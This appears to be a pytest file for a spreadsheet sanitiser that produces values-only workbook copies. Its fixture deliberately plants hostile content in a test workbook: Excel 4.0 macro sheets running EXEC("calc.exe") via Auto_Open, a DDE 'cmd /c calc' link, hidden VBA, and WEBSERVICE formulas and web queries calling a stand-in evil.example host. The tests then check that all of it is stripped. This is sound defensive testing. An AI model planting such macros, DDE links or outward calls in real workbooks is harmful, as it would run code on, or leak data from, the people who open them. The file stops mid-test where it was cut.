"""The values-only copy (``values_only``): what a department head opens holds values and formatting
and nothing that can run, refresh or call out.

The example workbook, filled as .xlsx and as .xlsm (with its real ``xl/vbaProject.bin``), is made
hostile once per module: VBA under another part name, two Excel 4.0 macro sheets placed among the
forms (one filed as a macro sheet, one disguised as a worksheet) with names scoped to them and to
the sheets after them, a DDE link and an external workbook link, a web query that refreshes on
load, formulas hidden in conditional formats, data validations, defined names and a worksheet
``extLst`` (and extensions nested in views and styles), an external hyperlink, printer settings,
custom XML, a thumbnail, a calculation chain and cell metadata. The copy must hold none of it;
every relationship, content type and sheet reference must resolve; every value, name, merge and
style must survive; jixiao must read the copy as the same document; LibreOffice must render it;
and each part must be valid against ECMA-376.

Each assertion would fail if its feature broke: dropping the ``<f>`` stripping, for one, leaves
``<f>`` elements (and ``EXEC``/``WEBSERVICE`` text) in the copy; forgetting to renumber
``localSheetId`` puts every form's names on the wrong sheet, so the names differ from the
original's and jixiao reads another document.
"""

from __future__ import annotations

import posixpath
import re
import shutil
import subprocess
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from lxml import etree

from jixiao.checking import check_path
from jixiao.forms.layout import FORM_NAME
from jixiao.forms.spec import SPECS
from jixiao.model.dataformat import dumps
from jixiao.model.derive import canonical
from jixiao.workbook.fill import fill
from jixiao.workbook.reader import Workbook
from jixiao.workbook.values_copy import values_only

from .helpers import formula_cells

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
XM = "http://schemas.microsoft.com/office/excel/2006/main"
XML_SPACE = "{http://www.w3.org/XML/1998/namespace}space"
REL, MS_REL = R + "/", "http://schemas.microsoft.com/office/2006/relationships/"

EVIL = "http://evil.example/x"
FORM_SHEET = "附件2"  # the form the hostile formulas, links and metadata are planted in
SPACED_TEXT = "  （备注：前后留空）  "  # an inline string whose leading and trailing spaces are content
NESTED_EXTENSION = f'<extLst><ext uri="{{evil}}"><x:evil xmlns:x="urn:evil">{EVIL}</x:evil></ext></extLst>'
MACRO_CODE = '<c r="A1"><f>EXEC("calc.exe")</f></c></row><row r="2"><c r="A2"><f>HALT()</f></c>'

# Parts planted in the hostile workbook, none of which may reach the copy.
LEFT_BEHIND = {
    "xl/macros1.bin": "VBA under another part name",
    "xl/macrosheets/sheet1.xml": "Excel 4.0 macro sheet",
    "xl/macrosheets/sheet2.xml": "Excel 4.0 macro sheet filed as a worksheet",
    "xl/externalLinks/externalLink1.xml": "DDE link",
    "xl/externalLinks/_rels/externalLink1.xml.rels": "DDE link's relationships",
    "xl/externalLinks/externalLink2.xml": "external workbook link",
    "xl/externalLinks/_rels/externalLink2.xml.rels": "external workbook's address",
    "xl/connections.xml": "web query connection",
    "xl/queryTables/queryTable1.xml": "query table",
    "xl/printerSettings/printerSettings1.bin": "printer settings",
    "xl/calcChain.xml": "calculation chain",
    "xl/metadata.xml": "cell metadata",
    "customXml/item1.xml": "custom XML",
    "docProps/thumbnail.jpeg": "thumbnail",
}
# The only parts a copy may hold.
ALLOWED_PART = re.compile(r"^(\[Content_Types\]\.xml|_rels/\.rels|docProps/(core|app|custom)\.xml|xl/workbook\.xml"
                          r"|xl/_rels/workbook\.xml\.rels|xl/worksheets/sheet\d+\.xml|xl/styles\.xml"
                          r"|xl/sharedStrings\.xml|xl/theme/theme\d+\.xml)$")
# Text that betrays something left behind, wherever it appears in the copy.
FORBIDDEN_TEXT = ["WEBSERVICE", "HYPERLINK", "ddeLink", "vbaProject", "macrosheet", "macroEnabled", "evil.example",
                  "EXEC(", "refreshOnLoad", "externalLink", "connections", "queryTable", "printerSettings",
                  "calcChain", "metadata.xml", "customXml", "thumbnail", "TargetMode"]
# Elements no part of the copy may hold (SpreadsheetML namespace).
FORBIDDEN_ELEMENTS = ["f", "conditionalFormatting", "dataValidations", "extLst", "externalReferences",
                      "connection", "legacyDrawing", "drawing", "definedName[@xlm]", "workbookPr[@codeName]",
                      "sheetPr[@codeName]", "c[@cm]", "c[@t='str']"]  # t="str": a formula's text
# Defined names planted in the hostile workbook: none may survive.
HOSTILE_NAMES = {
    "evil_webservice": f'WEBSERVICE("{EVIL}")',
    "evil_hyperlink": f'HYPERLINK("{EVIL}","点此")',
    "evil_dde": "cmd|'/c calc'!A0",
    "evil_external": "[2]Sheet1!$A$1",
    "evil_external_quoted": "'[2]Sheet 1'!$A$1",
    "Auto_Open": "Macro1!$A$1",  # a plain reference, but to the macro sheet the copy leaves behind
    "evil_disguised": "'宏2'!$A$1:$A$2",
}


# --- a package in memory, and the hostile edits --------------------------------------------------

class Package:
    """A workbook's parts by name, with the relationship and content-type bookkeeping of adding one."""

    def __init__(self, path: Path):
        with zipfile.ZipFile(path) as z:
            self.parts = {name: z.read(name) for name in z.namelist()}

    def text(self, name: str) -> str:
        return self.parts[name].decode("utf-8")

    def edit(self, name: str, old: str, new: str, regex: bool = False) -> None:
        """Replace the first ``old`` in part ``name`` (which must hold it) with ``new``."""
        text = self.text(name)
        text, n = re.subn(old, new, text, count=1) if regex else (text.replace(old, new, 1), text.count(old))
        assert n, f"{old!r} not in {name}"
        self.parts[name] = text.encode("utf-8")

    def add(self, name: str, data: bytes | str, content_type: str) -> None:
        self.parts[name] = data.encode("utf-8") if isinstance(data, str) else data
        override = f'<Override PartName="/{name}" ContentType="{content_type}"/>'
        self.edit("[Content_Types].xml", "</Types>", override + "</Types>")

    def relate(self, source: str, kind: str, target: str, external: bool = False) -> str:
        """A relationship from part ``source`` ('' for the package); returns its id."""
        rels = rels_name(source)
        if rels not in self.parts:
            self.parts[rels] = f'<?xml version="1.0"?><Relationships xmlns="{PKG_RELS}"></Relationships>'.encode()
        rid = f"rIdEvil{self.text(rels).count('<Relationship ')}"
        mode = ' TargetMode="External"' if external else ""
        rel = f'<Relationship Id="{rid}" Type="{kind}" Target="{target}"{mode}/>'
        self.edit(rels, "</Relationships>", rel + "</Relationships>")
        return rid

    def save(self, path: Path) -> Path:
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
            for name, data in self.parts.items():
                z.writestr(name, data)
        return path


def rels_name(part: str) -> str:
    if not part:
        return "_rels/.rels"
    return posixpath.join(posixpath.dirname(part), "_rels", posixpath.basename(part) + ".rels")


def sheet_part(path: Path, name: str) -> str:
    with Workbook(path) as book:
        return next(s.part for s in book.sheets if s.name == name)


def insert_sheet(pkg: Package, position: int, name: str, rid: str) -> None:
    """Put sheet ``name`` at ``position`` in workbook.xml's <sheets>, moving the sheet-scoped names
    and the active tab of the sheets after it along, as Excel does."""
    book = etree.fromstring(pkg.parts["xl/workbook.xml"])
    sheets = book.find(f"{{{MAIN}}}sheets")
    sheet = etree.Element(f"{{{MAIN}}}sheet", name=name, sheetId=str(100 + position))
    sheet.set(f"{{{R}}}id", rid)
    sheets.insert(position, sheet)
    for el, attr in [(n, "localSheetId") for n in book.iter(f"{{{MAIN}}}definedName")] + \
                    [(v, "activeTab") for v in book.iter(f"{{{MAIN}}}workbookView")]:
        if el.get(attr) is not None and int(el.get(attr)) >= position:
            el.set(attr, str(int(el.get(attr)) + 1))
    pkg.parts["xl/workbook.xml"] = etree.tostring(book, xml_declaration=True, encoding="UTF-8", standalone=True)


def macro_sheet(code: str) -> str:
    return (f'<?xml version="1.0"?><xm:macrosheet xmlns="{MAIN}" xmlns:xm="{XM}">'
            f'<sheetData><row r="1">{code}</row></sheetData></xm:macrosheet>')


def make_hostile(plain: Path, out: Path) -> Path:
    """``plain`` with every kind of active or outward-pointing content planted in it."""
    pkg = Package(plain)
    book, form = "xl/workbook.xml", sheet_part(plain, FORM_SHEET)
    # The .xlsm's own VBA project (the .xlsx has none: an OLE header does, as it is only dropped).
    vba = pkg.parts.get("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504))
    # 1. VBA under another part name.
    pkg.add("xl/macros1.bin", vba, "application/vnd.ms-office.vbaProject")
    pkg.relate(book, MS_REL + "vbaProject", "macros1.bin")
    pkg.edit(book, r'<workbookPr(?: codeName="\w+")?', '<workbookPr codeName="ThisWorkbook"', regex=True)
    # 2. A DDE link and an external workbook, referenced from <externalReferences>.
    pkg.add("xl/externalLinks/externalLink1.xml",
            f'<?xml version="1.0"?><externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/c calc">'
            '<ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>',
            "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml")
    pkg.relate("xl/externalLinks/externalLink1.xml", REL + "externalLinkPath", EVIL + "/dde.xlsx", external=True)
    pkg.add("xl/externalLinks/externalLink2.xml",
            f'<?xml version="1.0"?><externalLink xmlns="{MAIN}" xmlns:r="{R}"><externalBook r:id="rIdEvil0">'
            '<sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>',
            "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml")
    pkg.relate("xl/externalLinks/externalLink2.xml", REL + "externalLinkPath", r"file:///\\evil.example\share\x.xlsx",
               external=True)
    links = [pkg.relate(book, REL + "externalLink", f"externalLinks/externalLink{i}.xml") for i in (1, 2)]
    pkg.edit(book, "<definedNames>", "<externalReferences>" + "".join(
        f'<externalReference r:id="{rid}"/>' for rid in links) + "</externalReferences><definedNames>")
    # 3. A web query refreshed on load, and its query table on the form sheet.
    pkg.add("xl/connections.xml",
            f'<?xml version="1.0"?><connections xmlns="{MAIN}"><connection id="1" name="evil" type="4" '
            f'refreshedVersion="6" refreshOnLoad="1" background="1" saveData="1"><webPr sourceData="1" '
            f'url="{EVIL}/query"/></connection></connections>',
            "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml")
    pkg.relate(book, REL + "connections", "connections.xml")
    pkg.add("xl/queryTables/queryTable1.xml",
            f'<?xml version="1.0"?><queryTable xmlns="{MAIN}" name="evil" connectionId="1" refreshOnLoad="1" '
            'autoFormatId="16" applyNumberFormats="0" applyBorderFormats="0" applyFontFormats="1" '
            'applyPatternFormats="1" applyAlignmentFormats="0" applyWidthHeightFormats="0"/>',
            "application/vnd.openxmlformats-officedocument.spreadsheetml.queryTable+xml")
    pkg.relate(form, REL + "queryTable", "../queryTables/queryTable1.xml")
    # 4. Formulas in a conditional format, a data validation, an extLst and defined names; an
    # external hyperlink; extension attributes; a dynamic-array cell (cm="1"); a code name.
    link = pkg.relate(form, REL + "hyperlink", EVIL, external=True)
    printer = pkg.relate(form, REL + "printerSettings", "../printerSettings/printerSettings1.bin")
    pkg.edit(form, "<worksheet ", '<worksheet xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" '
             'xmlns:x14ac="http://schemas.microsoft.com/office/spreadsheetml/2009/9/ac" mc:Ignorable="x14ac" ')
    pkg.edit(form, r'<sheetPr(?: codeName="\w+")?', '<sheetPr codeName="Sheet3"', regex=True)
    pkg.edit(form, '<sheetFormatPr ', '<sheetFormatPr x14ac:dyDescent="0.25" ')
    pkg.edit(form, '<sheetView workbookViewId="0"/>', f'<sheetView workbookViewId="0">{NESTED_EXTENSION}</sheetView>')
    pkg.edit(form, "<conditionalFormatting ", '<conditionalFormatting sqref="A1"><cfRule type="expression" '
             f'dxfId="0" priority="9"><formula>WEBSERVICE("{EVIL}")</formula></cfRule></conditionalFormatting>'
             "<conditionalFormatting ")
    pkg.edit(form, "</dataValidations>", '<dataValidation type="list" allowBlank="1" sqref="I5">'
             f'<formula1>WEBSERVICE("{EVIL}")</formula1></dataValidation></dataValidations>'
             f'<hyperlinks><hyperlink ref="A1" r:id="{link}" display="点此"/>'
             f"<hyperlink ref=\"A3\" location=\"'{FORM_SHEET}'!A1\" display=\"回到表头\"/></hyperlinks>")
    pkg.edit(form, "<pageSetup ", f'<pageSetup r:id="{printer}" ')
    pkg.edit(form, "</worksheet>", '<extLst><ext '
             'xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main" '
             'uri="{78C0D931-6437-407d-A8EE-F0AAD7539E65}"><x14:conditionalFormattings><x14:conditionalFormatting '
             'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><x14:cfRule type="expression" '
             f'priority="10" id="{{00000000-0000-0000-0000-000000000001}}"><xm:f>WEBSERVICE("{EVIL}")</xm:f>'
             "</x14:cfRule><xm:sqref>A1</xm:sqref></x14:conditionalFormatting></x14:conditionalFormattings>"
             "</ext></extLst></worksheet>")
    pkg.edit(form, r'(<c r="[A-Z]+\d+"[^>]*?)(><f>)', r'\1 cm="1"\2', regex=True)
    # 5. Excel 4.0 macro sheets among the forms: one filed as such, one disguised as a worksheet;
    # names scoped to them, and (moved along) to the sheets after them.
    pkg.add("xl/macrosheets/sheet1.xml", macro_sheet(MACRO_CODE), "application/vnd.ms-excel.macrosheet+xml")
    insert_sheet(pkg, 1, "Macro1", pkg.relate(book, MS_REL + "xlMacrosheet", "macrosheets/sheet1.xml"))
    pkg.add("xl/macrosheets/sheet2.xml", macro_sheet(MACRO_CODE), "application/vnd.ms-excel.macrosheet+xml")
    insert_sheet(pkg, 4, "宏2", pkg.relate(book, REL + "worksheet", "macrosheets/sheet2.xml"))
    pkg.edit(book, "<definedNames>", "<definedNames>" + "".join(
        f'<definedName name="{name}">{escape(text)}</definedName>' for name, text in HOSTILE_NAMES.items())
        + '<definedName name="Auto_Open" localSheetId="1">Macro1!$A$1</definedName>'
        + '<definedName name="Auto_Open" localSheetId="4" xlm="1">\'宏2\'!$A$1</definedName>')
    pkg.edit(book, "</workbook>", NESTED_EXTENSION + "</workbook>")
    pkg.edit(book, r"(<workbookView [^>]*)/>", rf"\1>{NESTED_EXTENSION}</workbookView>", regex=True)
    # 6. Printer settings, custom XML, a thumbnail, a calculation chain, cell metadata; an extLst
    # in the styles; a text whose spaces are content.
    pkg.add("xl/printerSettings/printerSettings1.bin", b"\x00printer\x00" * 32,
            "application/vnd.openxmlformats-officedocument.spreadsheetml.printerSettings")
    pkg.add("customXml/item1.xml", '<?xml version="1.0"?><evil xmlns="urn:evil">customXml</evil>', "application/xml")
    pkg.relate(book, REL + "customXml", "../customXml/item1.xml")
    pkg.add("docProps/thumbnail.jpeg", b"\xff\xd8\xff\xe0thumbnail\xff\xd9", "image/jpeg")
    pkg.relate("", PKG_RELS + "/metadata/thumbnail", "docProps/thumbnail.jpeg")
    pkg.add("xl/calcChain.xml", f'<?xml version="1.0"?><calcChain xmlns="{MAIN}"><c r="A1" i="1"/></calcChain>',
            "application/vnd.openxmlformats-officedocument.spreadsheetml.calcChain+xml")
    pkg.relate(book, REL + "calcChain", "calcChain.xml")
    pkg.add("xl/metadata.xml", f'<?xml version="1.0"?><metadata xmlns="{MAIN}"><metadataTypes count="1">'
            '<metadataType name="XLDAPR" minSupportedVersion="120000" copy="1" pasteAll="1" pasteValues="1" '
            'merge="1" splitFirst="1" rowColShift="1" clearFormats="1" clearComments="1" assign="1" coerce="1" '
            'cellMeta="1"/></metadataTypes><cellMetadata count="1"><bk><rc t="1" v="0"/></bk></cellMetadata>'
            "</metadata>", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheetMetadata+xml")
    pkg.relate(book, REL + "sheetMetadata", "metadata.xml")
    pkg.edit("xl/styles.xml", "</styleSheet>", NESTED_EXTENSION + "</styleSheet>")
    pkg.edit(sheet_part(plain, "基本信息"), r'<c r="C6"( s="\d+")/>',
             rf'<c r="C6"\1 t="inlineStr"><is><t xml:space="preserve">{SPACED_TEXT}</t></is></c>', regex=True)
    return pkg.save(out)


def escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


# --- fixtures: each variant made hostile and copied once -----------------------------------------

@pytest.fixture(scope="module", params=["xlsx", "xlsm"])
def books(request, tmp_path_factory, example_doc):
    """(plain, hostile, copy of hostile) for the example filled as .xlsx and as .xlsm."""
    folder = tmp_path_factory.mktemp(f"values-copy-{request.param}")
    plain = fill(example_doc, folder / f"plain.{request.param}")
    hostile = make_hostile(plain, folder / f"hostile.{request.param}")
    return plain, hostile, values_only(hostile, folder / "copy.xlsx")


@pytest.fixture(scope="module")
def plain(books):
    return books[0]


@pytest.fixture(scope="module")
def hostile(books):
    return books[1]


@pytest.fixture(scope="module")
def copy(books):
    return books[2]


@pytest.fixture(scope="module")
def benign_copy(tmp_path_factory, example_book):
    return values_only(example_book, tmp_path_factory.mktemp("benign") / "copy.xlsx")


def parts_of(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as z:
        return {name: z.read(name) for name in z.namelist()}


def xml_parts(path: Path) -> dict[str, etree._Element]:
    return {name: etree.fromstring(data) for name, data in parts_of(path).items() if name.endswith((".xml", ".rels"))}


def relationships(parts: dict[str, bytes]) -> list[tuple[str, etree._Element]]:
    """(the part a relationship comes from, the relationship) for every relationship of the package."""
    out = []
    for name, data in parts.items():
        if name.endswith(".rels"):
            folder, base = posixpath.split(name)
            source = posixpath.join(posixpath.dirname(folder), base[:-len(".rels")])
            out += [(source, rel) for rel in etree.fromstring(data)]
    return out


def target(source: str, rel: etree._Element) -> str:
    t = rel.get("Target")
    return t.lstrip("/") if t.startswith("/") else posixpath.normpath(posixpath.join(posixpath.dirname(source), t))


MARK = ("jx_values_only", None, '"jixiao 签批副本：只含数值"')  # what the copy adds: its mark


def names_of(path: Path) -> list[tuple[str, str | None, str]]:
    """workbook.xml's defined names: (name, localSheetId, text), sorted; the copy's mark, which
    every copy must carry, left out (so that a copy's names compare with its source's)."""
    book = etree.fromstring(parts_of(path)["xl/workbook.xml"])
    names = [(n.get("name"), n.get("localSheetId"), n.text) for n in book.iter(f"{{{MAIN}}}definedName")]
    if names.count(MARK):
        names.remove(MARK)
    return sorted(names, key=lambda name: (name[0], name[1] or "", name[2]))


def contents(path: Path) -> dict[str, tuple[list[str], dict]]:
    """jixiao's reading of every sheet, in order: name → (its merged ranges, {(row, col): value})."""
    out = {}
    with Workbook(path) as book:
        for name in book.sheet_names():
            sheet = book.sheet(name)
            values = {pos: cell.value for pos, cell in sheet.cells.items() if cell.value is not None}
            out[name] = (sorted(sheet.merged_refs), values)
    return out


def cell_styles(path: Path) -> dict[tuple[str, str], str | None]:
    """{(sheet part, cell ref): its style index} for every cell of every worksheet."""
    out = {}
    for name, root in xml_parts(path).items():
        if name.startswith("xl/worksheets/") and etree.QName(root).localname == "worksheet":
            for c in root.iter(f"{{{MAIN}}}c"):
                out[(name, c.get("r"))] = c.get("s")
    return out


# --- nothing left behind ------------------------------------------------------------------------

def test_the_hostile_workbook_really_holds_what_the_copy_must_not(hostile):
    """The fixture is what it claims: otherwise every test below would pass vacuously."""
    parts = parts_of(hostile)
    assert set(LEFT_BEHIND) <= set(parts)
    text = b"".join(parts.values()).decode("utf-8", "replace")
    for needle in ("WEBSERVICE", "ddeLink", "vbaProject", "macrosheet", "EXEC(", "refreshOnLoad", "TargetMode",
                   'cm="1"'):
        assert needle in text, needle
    assert [n for n, local, _ in names_of(hostile) if n == "Auto_Open"] == ["Auto_Open"] * 3
    with Workbook(hostile) as book:
        assert book.sheet_names()[1] == "Macro1" and book.sheet_names()[4] == "宏2"


@pytest.mark.parametrize("part", LEFT_BEHIND, ids=list(LEFT_BEHIND.values()))
def test_a_planted_part_is_left_behind(copy, part):
    assert part not in parts_of(copy)


def test_the_copy_holds_only_allowed_parts(copy):
    names = set(parts_of(copy))
    assert not {n for n in names if not ALLOWED_PART.match(n)}
    assert {"[Content_Types].xml", "_rels/.rels", "xl/workbook.xml", "xl/_rels/workbook.xml.rels", "xl/styles.xml",
            "xl/sharedStrings.xml", "xl/theme/theme1.xml", "docProps/core.xml", "docProps/app.xml",
            "docProps/custom.xml"} <= names
    assert "xl/vbaProject.bin" not in names


@pytest.mark.parametrize("needle", FORBIDDEN_TEXT)
def test_no_trace_of_active_content_in_any_part(copy, needle):
    found = [name for name, data in parts_of(copy).items() if needle.encode() in data]
    assert not found, f"{needle!r} in {found}"


@pytest.mark.parametrize("element", FORBIDDEN_ELEMENTS)
def test_no_forbidden_element_in_any_part(copy, element):
    found = [name for name, root in xml_parts(copy).items() if root.xpath(f"//m:{element}", namespaces={"m": MAIN})]
    assert not found, f"<{element}> in {found}"


def test_no_external_relationship_and_no_relationship_ids_left_in_links_or_page_setup(copy):
    parts = parts_of(copy)
    assert not [rel.get("Target") for _, rel in relationships(parts) if rel.get("TargetMode") == "External"]
    for name, root in xml_parts(copy).items():
        if name.startswith("xl/worksheets/"):
            holders = root.xpath("//m:hyperlink | //m:pageSetup", namespaces={"m": MAIN})
            assert not [el for el in holders if any(a.startswith(f"{{{R}}}") for a in el.attrib)], name
    # The internal hyperlink stays, without its address; the external one goes with its address.
    form = etree.fromstring(parts[sheet_part(copy, FORM_SHEET)])
    links = form.findall(f"{{{MAIN}}}hyperlinks/{{{MAIN}}}hyperlink")
    assert [(l.get("ref"), l.get("location")) for l in links] == [("A3", f"'{FORM_SHEET}'!A1")]


def test_no_extension_attribute_is_left(copy):
    """Attributes in a namespace (mc:Ignorable, x14ac:dyDescent, r:id) point at extensions or parts:
    only a sheet's r:id (to its worksheet) and xml:space (on text) stay."""
    found = set()
    for name, root in xml_parts(copy).items():
        if name.startswith("xl/"):
            for el in root.iter():
                found |= {(etree.QName(el).localname, a) for a in el.attrib if a.startswith("{")}
    assert found <= {("sheet", f"{{{R}}}id"), ("t", XML_SPACE)}, found


def test_the_workbook_is_a_plain_workbook_without_hostile_names(copy):
    book = etree.fromstring(parts_of(copy)["xl/workbook.xml"])
    assert book.find(f"{{{MAIN}}}workbookPr").get("codeName") is None
    names = {name for name, _, _ in names_of(copy)}
    assert not names & set(HOSTILE_NAMES), names & set(HOSTILE_NAMES)
    types = etree.fromstring(parts_of(copy)["[Content_Types].xml"])
    assert {o.get("ContentType") for o in types if o.get("PartName") == "/xl/workbook.xml"} == {
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"}


# --- a well-formed package ----------------------------------------------------------------------

def test_every_relationship_part_and_sheet_resolves(copy):
    parts = parts_of(copy)
    for source, rel in relationships(parts):
        assert target(source, rel) in parts, (source, rel.get("Target"))
    types = etree.fromstring(parts["[Content_Types].xml"])
    overrides = {o.get("PartName").lstrip("/") for o in types if etree.QName(o).localname == "Override"}
    defaults = {d.get("Extension") for d in types if etree.QName(d).localname == "Default"}
    for name in parts:
        if name != "[Content_Types].xml":
            assert name in overrides or name.rpartition(".")[2] in defaults, name
    assert overrides <= set(parts), overrides - set(parts)  # no content type for a part that is gone
    book_rels = {rel.get("Id"): rel for source, rel in relationships(parts) if source == "xl/workbook.xml"}
    for sheet in etree.fromstring(parts["xl/workbook.xml"]).iter(f"{{{MAIN}}}sheet"):
        rel = book_rels[sheet.get(f"{{{R}}}id")]
        assert rel.get("Type") == REL + "worksheet"
        assert etree.QName(etree.fromstring(parts[target("xl/workbook.xml", rel)])).localname == "worksheet"


# --- values, names, merges and styles survive ---------------------------------------------------

def test_every_value_merge_and_sheet_survives(hostile, copy):
    source, copied = contents(hostile), contents(copy)
    assert list(copied) == [s for s in source if s not in ("Macro1", "宏2")]
    for name, (merged, values) in copied.items():
        assert merged == source[name][0], name
        assert values == source[name][1], name
    # Every formula's cached result is now a plain value: numbers stay numbers, text stays text.
    results = formula_cells(hostile)
    assert len(results) > 100 and not formula_cells(copy)
    kinds = {type(v) for v in results.values()}
    assert {Decimal, str} <= kinds
    for (sheet, row, col), value in results.items():
        if sheet not in ("Macro1", "宏2"):
            assert copied[sheet][1].get((row, col)) == value, (sheet, row, col)


def test_values_read_by_openpyxl_equal_the_cached_values(plain, copy):
    """An independent reader: openpyxl's cached values of the plain workbook (the hostile one adds
    no value) equal its values of the copy, text results of formulas as text."""
    openpyxl = pytest.importorskip("openpyxl")
    source = openpyxl.load_workbook(plain, data_only=True)
    copied = openpyxl.load_workbook(copy, data_only=True)
    assert copied.sheetnames == source.sheetnames
    for name in copied.sheetnames:
        a, b = source[name], copied[name]
        assert sorted(map(str, a.merged_cells.ranges)) == sorted(map(str, b.merged_cells.ranges)), name
        cells_a = {c.coordinate: c.value for row in a.iter_rows() for c in row if c.value is not None}
        cells_b = {c.coordinate: c.value for row in b.iter_rows() for c in row if c.value is not None}
        if name == "基本信息":
            del cells_b["C6"]  # the spaced text planted in the hostile workbook
        assert cells_b == cells_a, name
    title = copied[FORM_SHEET]["A2"]
    assert title.data_type == "s" and title.value == "2024年度部门（单位）整体支出绩效自评表"


def test_every_cell_keeps_its_style(hostile, copy):
    kept = cell_styles(copy)
    source = {key: s for key, s in cell_styles(hostile).items() if key[0] in {part for part, _ in kept}}
    assert kept == source


def test_text_keeps_its_leading_and_trailing_spaces(copy):
    """An inline string's spaces are content: xml:space="preserve" must stay on its <t>, or
    calamine (jixiao's reader and pandas use it) trims them."""
    from python_calamine import CalamineWorkbook

    info = etree.fromstring(parts_of(copy)[sheet_part(copy, "基本信息")])
    t = info.find(f".//{{{MAIN}}}c[@r='C6']/{{{MAIN}}}is/{{{MAIN}}}t")
    assert t.text == SPACED_TEXT and t.get(XML_SPACE) == "preserve"
    rows = CalamineWorkbook.from_path(str(copy)).get_sheet_by_name("基本信息").to_python()
    assert rows[5][2] == SPACED_TEXT


def test_names_survive_with_their_sheets_after_the_macro_sheets_are_removed(plain, copy):
    """The names of the copy are exactly the plain workbook's: every jx_ field name and form marker,
    scoped to the right sheet although two sheets before them were removed."""
    expected = names_of(plain)
    assert names_of(copy) == expected
    with Workbook(copy) as book:
        form = book.name(FORM_NAME, FORM_SHEET)
        assert form is not None and form.constant == FORM_SHEET
        marker = SPECS[FORM_SHEET].marker
        assert book.name(marker, FORM_SHEET).sheet == FORM_SHEET
    views = etree.fromstring(parts_of(copy)["xl/workbook.xml"]).iter(f"{{{MAIN}}}workbookView")
    plain_views = etree.fromstring(parts_of(plain)["xl/workbook.xml"]).iter(f"{{{MAIN}}}workbookView")
    assert [v.get("activeTab") for v in views] == [v.get("activeTab") for v in plain_views]


def same_document(a: Path, b: Path) -> None:
    """jixiao reads ``a`` and ``b`` as the same document. In the copy every derived value (a sum, a
    rate) is a typed value equal to its formula's, where the source has the formula; ``canonical``
    drops such values, as the round-trip contract does."""
    first, second = check_path(a), check_path(b)
    assert first.readable and second.readable, (first.error, second.error)
    assert dumps(canonical(second.doc)) == dumps(canonical(first.doc))


def test_jixiao_reads_the_copy_as_the_same_document(plain, hostile, copy):
    same_document(plain, copy)
    same_document(hostile, copy)  # the planted spaced text sits outside every field


# --- a benign workbook loses nothing that matters -----------------------------------------------

def test_a_benign_copy_keeps_every_part_value_name_and_format(example_book, benign_copy):
    source, copied = parts_of(example_book), parts_of(benign_copy)
    assert set(copied) == set(source)  # a plain jixiao workbook holds only allowed parts
    assert names_of(benign_copy) == names_of(example_book)
    assert contents(benign_copy) == contents(example_book)  # values, merges, sheets, in order
    assert cell_styles(benign_copy) == cell_styles(example_book)
    c14n = lambda data: etree.tostring(etree.fromstring(data), method="c14n")  # noqa: E731
    for part in ("xl/styles.xml", "xl/sharedStrings.xml", "xl/theme/theme1.xml", "docProps/core.xml",
                 "docProps/app.xml", "docProps/custom.xml"):
        assert c14n(copied[part]) == c14n(source[part]), part
    # Every sheet's layout and print setup (everything but its formulas, conditional formats and
    # data validations) is exactly the source's.
    dropped = {"sheetData", "conditionalFormatting", "dataValidations"}
    for part in (p for p in source if p.startswith("xl/worksheets/")):
        a, b = etree.fromstring(source[part]), etree.fromstring(copied[part])
        kept = [c14n(etree.tostring(el)) for el in a if etree.QName(el).localname not in dropped]
        assert [c14n(etree.tostring(el)) for el in b if etree.QName(el).localname != "sheetData"] == kept, part
    same_document(example_book, benign_copy)


# --- LibreOffice and the schemas ----------------------------------------------------------------

@pytest.fixture(scope="module")
def schema():
    """The shared validator (tests/schemas.py: ECMA-376, markup compatibility resolved, xml:space
    dropped since the schemas type <t> as a simple type while Excel writes xml:space on it)."""
    from ..schemas import validate_xml

    # Calibration: the schema knows a worksheet's child order (and so can fail a test).
    wrong = (f'<worksheet xmlns="{MAIN}"><mergeCells count="1"><mergeCell ref="A1:B1"/>'
             "</mergeCells><sheetData/></worksheet>").encode()
    assert validate_xml(wrong) is not None
    return validate_xml


def test_every_xml_part_is_valid_against_ecma_376(schema, copy):
    invalid = {}
    for name, root in xml_parts(copy).items():
        error = schema(etree.tostring(root))
        if error:
            invalid[name] = error
    assert not invalid, invalid


@pytest.mark.libreoffice
def test_libreoffice_renders_the_copy(tmp_path, copy, example_doc):
    from jixiao.workbook.libreoffice import convert

    source = tmp_path / "copy.xlsx"
    shutil.copy(copy, source)
    pdf = convert(source, "pdf", tmp_path / "pdf")
    assert pdf.is_file()
    info = subprocess.run(["pdfinfo", str(pdf)], capture_output=True, text=True, check=True).stdout
    assert int(re.search(r"^Pages:\s+(\d+)", info, re.M).group(1)) > 0
    text = subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True, check=True).stdout
    text = "".join(text.split())
    assert example_doc.department.name in text and "2024年度部门（单位）整体支出绩效自评表" in text


def test_every_copy_carries_its_mark(tmp_path, example_book):
    copy = values_only(example_book, tmp_path / "copy.xlsx")
    book = etree.fromstring(parts_of(copy)["xl/workbook.xml"])
    assert MARK in [(n.get("name"), n.get("localSheetId"), n.text) for n in book.iter(f"{{{MAIN}}}definedName")]


def test_the_copy_checks_on_its_values_with_the_findings_of_its_source(tmp_path, example_book):
    """Its formulas were frozen on purpose (the mark in its names says so): no "formula typed over"
    (F06) for each of them, and otherwise exactly the findings of the workbook it came from."""
    from jixiao.checking import check_path

    copy = values_only(example_book, tmp_path / "copy.xlsx")
    source = check_path(example_book)
